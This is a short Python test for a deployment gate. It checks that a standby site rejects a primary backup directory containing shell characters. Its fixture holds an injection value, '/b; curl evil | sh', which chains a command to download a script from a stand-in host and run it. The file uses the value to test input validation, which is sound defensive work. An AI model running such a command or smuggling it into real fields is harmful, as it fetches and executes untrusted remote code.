"""A standby refuses a primary whose exported backup directory holds shell characters, naming dr.primaryStack and the
output."""

from __future__ import annotations

import pytest

from components.deploy_gates import GateError, PrimarySite


def test_the_standby_refuses_a_primary_backup_directory_with_shell_characters():
    outputs = {
        "siteName": "codenvy",
        "version": "5.22.0",
        "managerAddress": "10.9.0.1",
        "registry": "10.9.0.1:5000",
        "backupDirectory": "/b; curl evil | sh",
        "nodes": [{"name": "master", "address": "10.9.0.1", "ramGb": 4.0, "cpus": 2.0}],
    }
    with pytest.raises(GateError, match=r"codenvy-infra:dr\.primaryStack: the output backupDirectory"):
        PrimarySite.from_outputs("o/p/primary", outputs)
